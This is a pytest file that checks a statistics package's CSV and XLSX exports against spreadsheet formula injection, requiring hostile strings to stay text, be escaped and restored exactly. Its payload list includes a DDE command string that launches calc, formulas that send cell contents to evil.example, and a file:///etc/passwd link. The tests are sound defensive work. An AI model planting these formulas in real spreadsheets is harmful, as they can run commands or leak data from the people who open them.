"""Text that a spreadsheet would run: it stays text in every place, and comes back as it was (T8)."""

from __future__ import annotations

import io
import re
import zipfile
from xml.etree import ElementTree as ET

import pytest

from ictstats.dataset.exports import csvs, hostile, xlsx
from ictstats.errors import BadRow

HOSTILE = (
    *("=1+1", "=SUM(A1:A9)", "=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example/?x="&A1,"x")', "==1", "= 1+1"),
    *("+1+1", "+84 26 3852 123", "-1+1", "-5", "- 5 %", "--1", "−5", "@SUM(1+1)", "@ict", "@"),
    *("\t=1+1", "\tx", "\r=1+1", "\rx", "\n=1+1", "\0=1+1", "\0", "a\0b", "a\rb", "a\r\nb", "\x07bell", "\x1f"),
    *("'=1+1", "'", "''", "'x", '"=1+1"', '"', '","=1+1,"', 'a","b', "a,b", "a;b", "\ufeff=1+1", " =1+1", "{=1+1}"),
    *('=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', '=WEBSERVICE("http://evil.example")', "=DDE(1;2;3)"),
    *("http://evil.example", "mailto:a@b.c", "file:///etc/passwd", "internal:Sheet!A1", "external:\\\\evil\\x.xlsx"),
    *("_x0041_", "_x005F_", "_x000D_", "<f>1+1</f>", "</t></si><f>1</f>", "]]>", "&lt;f&gt;", "1e5", "007", "04"),
    *("TRUE", "#REF!", "#N/A", "NaN", "1/2", "12/5", "Đắk Lắk", "số = 5", "a" * 300, "[Book.xls]Sheet!A1", "%0A=1+1"),
    *("\u202e=1+1", "\u200b=1", "＝1+1", "＋1", "－1", "＠x", "|calc", "%1", "$A$1", "R1C1", "Print_Area", "History"),
)
TEXTS = sorted({*HOSTILE})
LETTER = re.compile(r"_x([0-9A-Fa-f]{4})_")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def name_of(text: str) -> str:
    return ascii(text)[:40]


def shared(data: bytes) -> list[str]:
    """Texts of a workbook as Excel reads them, by the standard and without the library that wrote them."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        root = ET.fromstring(archive.read("xl/sharedStrings.xml"))
    texts = ["".join(part.text or "" for part in item.iter(f"{MAIN}t")) for item in root.iter(f"{MAIN}si")]
    return [LETTER.sub(lambda match: chr(int(match[1], 16)), text) for text in texts]


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def test_there_are_enough() -> None:
    assert len(TEXTS) >= 80


@pytest.mark.parametrize("text", TEXTS, ids=name_of)
def test_xlsx_holds_it_as_text_in_cell_header_and_name_of_a_sheet(text: str) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    data = xlsx.workbook([xlsx.Sheet(text, [text, "n"], [[text, 5], ["x", -5.5]])])
    for name, content in parts(data).items():
        root = ET.fromstring(content)
        assert not [one for one in root.iter() if one.tag in {f"{MAIN}f", f"{MAIN}hyperlink", f"{MAIN}definedName"}]
        assert "hyperlink" not in name.lower()
        assert "externalLink" not in name
    assert text in shared(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    (sheet,) = book.worksheets
    assert sheet.title == xlsx.sheet_name(text)
    assert [cell.data_type for row in sheet.iter_rows() for cell in row] == ["s", "s", "s", "n", "s", "n"]
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [5, -5.5]


@pytest.mark.parametrize("text", TEXTS, ids=name_of)
def test_the_name_of_a_sheet_is_one_that_excel_takes(text: str) -> None:
    name = xlsx.sheet_name(text)
    assert 0 < len(name.encode("utf-16-le")) // 2 <= 31
    assert not re.search(r"[\[\]:*?/\\\x00-\x1f]", name)
    assert not name.startswith("'")
    assert not name.endswith("'")
    assert name.casefold() != "history"
    assert xlsx.sheet_name(text, {name.casefold()}).casefold() != name.casefold()


@pytest.mark.parametrize("text", TEXTS, ids=name_of)
def test_plain_csv_gives_it_back(text: str) -> None:
    data = csvs.plain([text, "n"], [[text, "-5"], ["x", text]])
    rows = csvs.restored(data, {"cells": []})
    # A mark of byte order at the very beginning of a file is one, whatever was meant.
    assert [[rows[0][0].removeprefix("\ufeff"), *rows[0][1:]], *rows[1:]] == [
        [text.removeprefix("\ufeff"), "n"],
        [text, "-5"],
        ["x", text],
    ]


@pytest.mark.parametrize("text", TEXTS, ids=name_of)
def test_csv_for_excel_has_no_formula_and_is_restored(text: str) -> None:
    data, record = csvs.excel_safe([text, "value"], [[text, "-5"], ["x", "5"]], ["value"])
    shown = csvs.restored(data, {"cells": []})
    for cell in (shown[0][0], shown[1][0]):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0"))
    assert [row[1] for row in shown] == ["value", "-5", "5"], "numbers stay numbers"
    assert csvs.restored(data, record) == [[text, "value"], [text, "-5"], ["x", "5"]]
    changed = hostile.escape(text) != text
    assert record["cells"] == ([{"row": 0, "column": 0}, {"row": 1, "column": 0}] if changed else [])


@pytest.mark.parametrize("text", TEXTS, ids=name_of)
def test_escaping_is_undone_exactly(text: str) -> None:
    escaped = hostile.escape(text)
    assert hostile.restore(escaped) == text
    assert escaped == text or escaped == "'" + text


def test_the_record_of_another_file_is_refused() -> None:
    data, _ = csvs.excel_safe(["a"], [["x"]])
    for place in ({"row": 1, "column": 0}, {"row": 9, "column": 0}, {"row": 1, "column": 9}):
        with pytest.raises(BadRow, match="is not escaped as the record says"):
            csvs.restored(data, {"cells": [place]})


def test_sheets_with_one_name_are_told_apart() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    names = ["a" * 40, "A" * 40, "a/b", "a:b", "", "=x"]
    book = openpyxl.load_workbook(io.BytesIO(xlsx.workbook([xlsx.Sheet(name, ["h"], []) for name in names])))
    assert len({name.casefold() for name in book.sheetnames}) == len(names)


@pytest.mark.parametrize(("text", "fits"), [("x" * 32_767, True), ("x" * 32_768, False), ("𝄞" * 16_384, False)])
def test_a_text_that_no_cell_holds_is_refused_and_never_cut(text: str, fits: bool) -> None:
    sheet = xlsx.Sheet("s", ["h"], [[text]])
    if fits:
        assert text in shared(xlsx.workbook([sheet]))
        return
    with pytest.raises(BadRow, match=r"sheet s, row 2, column 1: has a longer text than a cell"):
        xlsx.workbook([sheet])
